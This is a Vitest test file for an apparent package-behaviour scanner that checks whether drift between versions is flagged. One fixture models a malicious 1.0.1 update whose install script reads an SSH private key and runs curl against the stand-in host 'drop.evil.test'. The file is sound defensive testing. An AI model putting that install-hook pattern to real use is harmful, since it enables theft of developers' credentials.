import { describe, expect, it } from 'vitest';
import { scoreReport } from '../src/index.js';
import { dns, proc, reportWith, script, sensitive, tcp } from './helpers.js';

const rules = (v: ReturnType<typeof scoreReport>) => v.reasons.map((r) => r.rule);
const version = (report: ReturnType<typeof reportWith>, v: string) => ({ ...report, package: { ...report.package, version: v } });

/** 1.0.0 builds with node-gyp and fetches headers; 1.0.1 also reads the SSH key and posts to a new host. */
const previous = version(
  reportWith({
    network: { dns: [dns('nodejs.org')], tcp: [tcp('nodejs.org', 443, { protocol: 'tls' })], udp: [] },
    processes: [proc(['node-gyp', 'rebuild'], { attribution: script('install', 'node-gyp rebuild') })],
  }),
  '1.0.0',
);

describe('update drift against the previous version', () => {
  it('flags new destinations, new sensitive access and new programs, with evidence', () => {
    const current = version(
      reportWith({
        network: {
          dns: [dns('nodejs.org'), dns('drop.evil.test')],
          tcp: [tcp('nodejs.org', 443, { protocol: 'tls' }), tcp('drop.evil.test', 443, { protocol: 'tls' })],
          udp: [],
        },
        processes: [
          proc(['node-gyp', 'rebuild'], { attribution: script('install', 'node-gyp rebuild') }),
          proc(['curl', '-s', 'https://drop.evil.test'], { path: '/usr/bin/curl', attribution: script('install') }),
        ],
        sensitiveFiles: [sensitive('ssh', '/home/jordan/.ssh/id_rsa', { attribution: script('install') })],
      }),
      '1.0.1',
    );
    const v = scoreReport(current, { previous });
    expect(rules(v)).toEqual(expect.arrayContaining(['update.new-destinations', 'update.new-sensitive-access', 'update.new-programs']));
    const dest = v.reasons.find((r) => r.rule === 'update.new-destinations')!;
    expect(dest.explanation).toBe('Contacts 1 destination(s) no earlier version did (than demo@1.0.0): drop.evil.test.');
    expect(dest.evidence[0]).toMatchObject({ section: 'network.dns', index: 1, destination: 'drop.evil.test' });
    expect(v.reasons.find((r) => r.rule === 'update.new-programs')!.explanation).toMatch(/curl/);
    expect(v.score).toBeGreaterThan(scoreReport(current).score);
  });

  it('stays quiet when the update behaves like the previous version, and without a previous report', () => {
    const same = version(previous, '1.0.1');
    expect(rules(scoreReport(same, { previous })).filter((r) => r.startsWith('update.'))).toEqual([]);
    expect(rules(scoreReport(same)).filter((r) => r.startsWith('update.'))).toEqual([]);
  });

  it('ignores a "previous" report of another package or of the same version', () => {
    const current = version(reportWith({ network: { dns: [dns('new.test')], tcp: [], udp: [] } }), '1.0.1');
    const other = { ...previous, package: { ...previous.package, name: 'other' } };
    expect(rules(scoreReport(current, { previous: other })).filter((r) => r.startsWith('update.'))).toEqual([]);
    expect(rules(scoreReport(current, { previous: version(previous, '1.0.1') })).filter((r) => r.startsWith('update.'))).toEqual([]);
  });
});
